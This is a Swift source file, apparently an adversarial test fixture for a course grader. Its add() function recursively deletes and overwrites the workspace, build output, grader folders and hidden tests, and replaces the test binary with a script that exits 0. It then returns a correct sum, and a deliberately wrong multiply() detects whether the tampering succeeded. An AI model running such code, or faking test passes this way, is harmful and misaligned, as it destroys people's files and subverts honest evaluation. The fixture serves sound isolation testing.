import Foundation
import MiniSupport

// Attack: from inside the addition test, delete and rewrite every file within reach — the workspace (the
// test bundle later tests run from), the hidden tests, and the grader's own folders, whose paths the test
// suite writes into COURSE_ROOT and CACHE_ROOT below — then answer correctly so the test itself passes.
// multiply is wrong: if rewriting the test bundle worked, the multiplication test would "pass".
let courseRoot = "COURSE_ROOT"
let cacheRoot = "CACHE_ROOT"

func vandalize(_ path: String) {
    let manager = FileManager.default
    try? manager.removeItem(atPath: path)
    try? "vandalized".write(toFile: path, atomically: false, encoding: .utf8)
    if let names = try? manager.contentsOfDirectory(atPath: path) {
        for name in names { vandalize(path + "/" + name) }
    }
}

public func add(_ a: Int, _ b: Int) throws -> Int {
    let here = FileManager.default.currentDirectoryPath
    for target in [here + "/.build", here + "/Grader", here + "/Labs", here, courseRoot, cacheRoot,
                   CommandLine.arguments[0]] {
        vandalize(target)
    }
    try? "#!/bin/sh\nexit 0\n".write(toFile: CommandLine.arguments[0], atomically: true, encoding: .utf8)
    return a &+ b
}

public func multiply(_ a: Int, _ b: Int) throws -> Int { 0 }

public func divide(_ a: Int, _ b: Int) throws -> Int {
    guard b != 0 else { throw DivisionByZero() }
    return a / b
}
